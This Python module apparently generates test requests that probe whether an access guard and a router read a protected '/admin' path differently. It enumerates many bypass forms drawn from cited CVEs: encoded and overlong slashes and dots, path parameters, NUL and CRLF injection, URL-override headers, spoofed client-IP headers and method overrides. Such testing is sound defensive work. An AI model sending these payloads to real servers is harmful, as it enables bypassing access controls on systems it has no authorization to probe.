"""Ways to write a guarded path so that a guard and a router may read it differently, as lists of bypasses name them.

The families are those of CAPEC-64, -72, -79 and -126, and of what proxies and servers had to mend: dot segments
(CVE-2019-9901), encoded slashes (CVE-2021-29492), fragments (CVE-2021-32779), path parameters (CVE-2018-11759), double
encodings (CVE-2007-1860, CVE-2025-0108), overlong UTF-8 (CVE-2000-0884), and paths in headers (CVE-2018-14773).
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import unquote_to_bytes


@dataclass(frozen=True, slots=True)
class Attempt:
    """A request line's method and target as bytes, and further fields."""

    target: bytes
    method: bytes = b"GET"
    fields: tuple[bytes, ...] = ()


SLASHES = b"//admin ///admin/x /admin// /admin//x ////admin////x //admin//reports//x //admin/reports/".split()
DOTS = (
    b"/./admin /././admin/x /club/../admin /club/../admin/x /club/./../admin/x /../admin /../../../admin/x"
    b" /admin/. /admin/./x /admin/x/.. /admin/x/../x /club/../../admin /admin/../admin /.//admin /..//admin"
    b" //./admin /club//../admin /club/x/../../admin /club/.../../admin ./admin ../admin /club/..//admin /admin/.."
    b" /admin/x/../.. /./admin/./ /.admin /club/../admin/reports/x"
).split()
# How a sign is written: decoders that take it for the sign itself are what the attempt hopes for.
SIGNS = {
    b".": b"%2e %2E %252e %25252e %c0%ae %e0%80%ae %f0%80%80%ae %c0.. %uff0e %u002e %ef%bc%8e .;",
    b"/": b"%2f %2F %252f %25252f %5c \\ %255c %c0%af %e0%80%af %f0%80%80%af %c1%9c %uff0f %u2215 %ef%bc%8f %e2%88%95",
}
BEFORE = (
    b"%20 %09 %00 %0a %0d %0d%0a ; ;/ .; .;/ ..;/ /..;/ club/..;/ club/.;/../ ;x=1/ ;x=1/../ %2e/ %2e%2e/ ~ ~/ * @"
    b" ? # %23 %3f %2f %5c %5c%5c %ef%bb%bf %e2%80%8b %ad & $ ! %25 %2525 %c0%80 %ff %u0000 index.php/ cgi-bin/../"
    b" static/../ ./%2e/ .%2f"
).split()
AFTER = (
    b"; ;x ;/ ;/x ;v=1/x /; /;/x ;.css ;/../x %3b %3b/x %253b /..;/ /..;/admin /.;/x %00 %00.html %00/x /%00 %0000"
    b" %01 %09 %20 %20/x %0a %0a/ /%0a %0d %0d%0a %0b %0c %1c %1f %7f %85 %c2%85 %a0 %c2%a0 %e2%80%a8 %ef%bb%bf"
    b" %e2%80%8b %ad . .. ... ./ ../ /... %2e %2e%2e .json .html .css .php /.json /x.json /x.css /x/.css ~ /~ * /*"
    b" %2a ' \" # #x /# #/../club %23 /%23 ? ?x ?? /? ?/../club ?%2f..%2fclub %3f %3fx /%3f %253f & %26 % %zz %2"
    b" %u0000 %25 $ @ @evil :80 %3a80 + , = | ^ ` {} <> ! ( ) %ff \xff \xc0\xaf %5c \\ \\x %5cx %255c /x\\..\\x"
    b" %2f %2fx %252f %252fx %c0%af %ef%bc%8f /%2e /%2e/x /%2e%2e/admin /x%2f..%2fx /reports /reports/ /reports/x"
    b" /reports;/x /reports%2fx /reports/%2e%2e/x /7 /7; /7%00 /%20"
).split()
LETTERS = (
    b"/%61dmin /%61%64%6d%69%6e /%61%64%6D%69%6E/x /adm%69n/x /admin/%78 /%2561dmin /%252561dmin /%2525252561dmin"
    b" /%25%36%31dmin /%u0061dmin /%c1%a1dmin /%e0%81%a1dmin /%ef%bd%81dmin /%d0%b0dmin /adm%c4%b1n /adm%c4%b0n"
    b" /%c3%a1dmin /a%cc%81dmin /%aadmin /%c2%aadmin /ADMIN /Admin /aDmIn/x /ADMIN/X /%41DMIN /adm%ad\xadin"
).split()
FORMS = (
    b"http://localhost/admin http://evil.example/admin/x HTTP://localhost//admin http:/admin http:admin"
    b" http:///admin https://localhost/admin ftp://localhost/admin //localhost/admin //evil.example/admin/x"
    b" ///localhost/admin admin admin/x ?/admin * localhost/admin http://localhost http://localhost?/admin"
    b" http://localhost/club/../admin http://localhost/admin;x http://localhost/%61dmin"
    b" http://user@localhost/admin http://localhost:80/admin http://localhost/club#/../admin"
    b" /http://localhost/admin /club?/../admin /club#/../admin /club%23/../../admin /club%3f/../../admin"
    b" /?/../admin /#/../admin /club;/../admin /club/;/../../admin \\admin \\\\admin /\\admin /club\\..\\admin"
    b" http://localhost\\admin http://localhost//admin/x http://[::1]/admin http://localhost/./admin"
    b" javascript:/admin /club/..%00/admin /club/..%0d/admin /club/..%09/admin /club/.%0a./admin"
    b" /%2e%2e%2f%2e%2e%2fadmin /%5cadmin /admin%"
).split()
RAW = (
    b"/admin\t", b"/admin\x0b", b"/admin\x0c", b"/ad\tmin", b" /admin", b"/admin ", b"\t/admin", b"/admin\r",
    b"/admin\x00", b"/club\r\nX: /admin", b"/admin /club", b"/club /admin", b"/\xefadmin", b"/admin\x85",
    b"/admin\xa0",
)  # fmt: skip
METHODS = (b"HEAD POST PUT PATCH DELETE OPTIONS TRACE PROPFIND TRACK get Get GETS FOO PRI").split()
NAMED = (
    b"X-Original-URL X-Original-URI X-Rewrite-URL X-Override-URL X-Forwarded-Prefix X-Forwarded-Path"
    b" X-Forwarded-Uri X-Script-Name SCRIPT_NAME Script-Name PATH_INFO Path-Info REQUEST_URI X-HTTP-DestinationURL"
    b" X-Proxy-URL Destination Referer"
).split()
PREFIXES = b"X-Script-Name SCRIPT_NAME Script-Name X-Forwarded-Prefix".split()
CLAIMS = (
    b"X-Forwarded-For Forwarded X-Real-IP X-Client-IP Client-IP True-Client-IP CF-Connecting-IP X-Originating-IP"
    b" X-Remote-IP X-Remote-Addr X-Cluster-Client-IP X-ProxyUser-Ip X_FORWARDED_FOR X-Custom-IP-Authorization"
    b" REMOTE_ADDR Remote-Addr"
).split()
OVERRIDES = b"X-HTTP-Method-Override X-HTTP-Method X-Method-Override".split()


def attempts() -> Iterator[Attempt]:
    """All of them, none twice."""
    yield from map(Attempt, dict.fromkeys(_targets()))
    for method in METHODS:
        yield from (Attempt(target, method) for target in (b"/admin", b"/admin/x", b"//admin"))
    for name in NAMED:
        for target in (b"/", b"/club", b"/club/x"):
            yield from (Attempt(target, b"GET", (name + b": " + path,)) for path in (b"/admin", b"/admin/x"))
    for name in PREFIXES:
        yield from (Attempt(target, b"GET", (name + b": /club",)) for target in (b"/club/admin", b"/clubadmin/x"))
    for name in CLAIMS:
        value = b"for=192.0.2.1" if name == b"Forwarded" else b"192.0.2.1"
        yield Attempt(b"/admin/x", b"GET", (name + b": " + value,))
    for name in OVERRIDES:
        yield from (Attempt(b"/admin/x", method, (name + b": HEAD",)) for method in (b"GET", b"POST"))


def _targets() -> Iterator[bytes]:
    yield from (*SLASHES, *DOTS, *LETTERS, *FORMS, *RAW)
    for sign, spellings in SIGNS.items():
        for spelling in spellings.split():
            for plain in (b"/club/../admin", b"/./admin/x", b"/admin/./x", b"/admin/x"):
                head, rest = plain[:1], plain[1:]
                yield head + rest.replace(sign, spelling)
                yield head + rest.replace(sign, spelling, 1)
    yield from (b"/" + before + b"admin" for before in BEFORE)
    yield from (b"/" + before + b"admin/x" for before in BEFORE)
    yield from (b"/admin" + after for after in AFTER)
    yield from (unquote_to_bytes(b"/admin/x" + after) for after in AFTER if after.startswith(b"%"))
